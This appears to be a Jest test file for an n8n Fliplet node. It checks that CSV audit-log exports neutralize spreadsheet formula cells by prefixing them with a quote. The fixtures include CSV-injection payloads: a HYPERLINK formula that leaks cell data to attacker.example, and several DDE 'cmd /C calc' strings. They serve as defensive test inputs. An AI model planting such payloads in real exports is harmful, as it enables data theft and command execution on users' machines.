// A value logged by anyone who uses an app ends up in the audit-log CSV an admin opens in a
// spreadsheet: a cell that would run as a formula is shown as text instead (a leading ', as
// OWASP advises), unless the option is turned off.
import type { IDataObject } from 'n8n-workflow';

import {
	neutralizeFormulaCells,
	splitCsvRecords,
} from '../../nodes/Fliplet/actions/organization/csvRecords';
import { runNode, sandboxCredential, TOKENS, useSandbox } from '../harness';
import { addLog } from '../organization/seedLogs';
import { expectLinear, timedAsync } from './timing';

const sandbox = useSandbox();

describe('neutralizeFormulaCells', () => {
	it.each([
		['=HYPERLINK("https://x.example/?"&A1)', `'=HYPERLINK("https://x.example/?"&A1)`],
		[
			'"=HYPERLINK(""https://x.example"",""Open"")"',
			`"'=HYPERLINK(""https://x.example"",""Open"")"`,
		],
		['+1+cmd', `'+1+cmd`],
		['-2+3', `'-2+3`],
		['@SUM(A1:A9)', `'@SUM(A1:A9)`],
		['"\t=1+1"', `"'\t=1+1"`],
		['"\r=1+1"', `"'\r=1+1"`],
		['\uff1d1+1', `'\uff1d1+1`],
		['"+44 7700 900123"', `"'+44 7700 900123"`],
		['-', `'-`],
	])('prefixes the formula cell %j', (cell, neutral) => {
		expect(neutralizeFormulaCells(`1,${cell},x`)).toBe(`1,${neutral},x`);
	});

	it.each([
		['-5'],
		['+5'],
		['-1.25'],
		['"-3e4"'],
		['.5'],
		['a=1'],
		[`'=already text`],
		[' =1'],
		[''],
		['""'],
		['"a, =b"'],
		['"x ""=y"""'],
	])('leaves %j as it is', (cell) => {
		expect(neutralizeFormulaCells(`${cell},${cell}`)).toBe(`${cell},${cell}`);
	});

	it('reads commas and quotes inside quoted cells as part of the cell', () => {
		expect(neutralizeFormulaCells('"a,b",=c,"d,""e",@f')).toBe(`"a,b",'=c,"d,""e",'@f`);
	});

	it.each([
		['one cell of 10 MB', (n: number) => `=${' '.repeat(n)}`],
		['many small cells', (n: number) => '=1,'.repeat(n / 3)],
		['one quoted cell of quotes', (n: number) => `"${'""'.repeat(n / 2)}"`],
	])('is linear: %s', (_name, textOf) => {
		expectLinear(neutralizeFormulaCells, textOf);
	});

	it('splitting the records is linear too', () => {
		expectLinear(splitCsvRecords, (n) => `"${'\r\n'.repeat(n / 2)}`);
	});
});

describe('Organization → Get Audit Logs as CSV', () => {
	const PLANTED = [
		'=HYPERLINK("https://attacker.example/?leak="&A2,"Open")',
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		'-42',
	];

	async function exportCsv(options: IDataObject = {}, requestIds = PLANTED) {
		for (const requestId of requestIds) {
			addLog(sandbox().state, { type: 'form.submit', requestId });
		}
		const result = await runNode({
			parameters: {
				resource: 'organization',
				operation: 'getAuditLogs',
				organization: { __rl: true, mode: 'id', value: '1' },
				format: 'csv',
				returnAll: true,
				filters: { eventTypes: 'form.submit' },
				options: { fields: 'requestId,type', order: 'ASC', ...options },
			},
			credentials: sandboxCredential(sandbox(), TOKENS.org),
		});
		expect(result.error).toBeUndefined();
		const csv = Buffer.from(result.items[0].binary!.data.data, 'base64').toString('utf8');
		return { csv, result };
	}

	it("prefixes every formula cell with ', keeps plain numbers, and is on by default", async () => {
		const { csv } = await exportCsv();
		expect(splitCsvRecords(csv)).toEqual([
			'requestId,type',
			`'=HYPERLINK(""https://attacker.example/?leak=""&A2,""Open"")",form.submit`.replace(
				/^'/,
				`"'`,
			),
			`'+cmd|' /C calc'!A0,form.submit`,
			`'-2+3+cmd|' /C calc'!A0,form.submit`,
			`'@SUM(1+1)*cmd|' /C calc'!A0,form.submit`,
			`'\t=1+1,form.submit`,
			`"'\r=1+1",form.submit`,
			'-42,form.submit',
		]);
	});

	it('writes the cells as the API sent them when "Neutralize Formulas" is off', async () => {
		const { csv } = await exportCsv({ neutralizeFormulas: false });
		const cells = splitCsvRecords(csv).map((record) => record.split(',form.submit')[0]);
		expect(cells).toEqual([
			'requestId,type',
			'"=HYPERLINK(""https://attacker.example/?leak=""&A2,""Open"")"',
			`+cmd|' /C calc'!A0`,
			`-2+3+cmd|' /C calc'!A0`,
			`@SUM(1+1)*cmd|' /C calc'!A0`,
			'\t=1+1',
			'"\r=1+1"',
			'-42',
		]);
	});

	it('neutralizes a 10 MB cell within seconds', async () => {
		const big = `=${' '.repeat(10 * 1024 * 1024)}1`;
		const { result, ms } = await timedAsync(() => exportCsv({}, [big]));
		expect(ms).toBeLessThan(20_000);
		expect(result.csv.split('\r\n')[1].startsWith(`'=`)).toBe(true);
	});
});
